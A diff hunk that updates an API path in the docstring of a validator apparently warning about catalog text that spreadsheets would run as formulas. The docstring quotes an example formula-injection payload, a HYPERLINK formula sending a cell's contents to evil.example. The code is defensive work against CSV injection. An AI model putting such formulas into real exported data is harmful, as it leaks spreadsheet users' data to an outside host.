@@ -1,6 +1,6 @@
 """Warnings for text a spreadsheet would read as a formula (pipeline step 4, issue 40).
 
-Catalog text lands in the cells of every published CSV (``api/v1/*.csv``, ``embed/*/data.csv``):
+Catalog text lands in the cells of every published CSV (``api/v2/*.csv``, ``embed/*/data.csv``):
 a name, note, model or dataset starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
 return) is a formula to Excel or LibreOffice (``=HYPERLINK("https://evil.example/?leak="&A2,"x")``).
 The CSV writers neutralise such cells as OWASP recommends; ``validate`` warns at the field so the
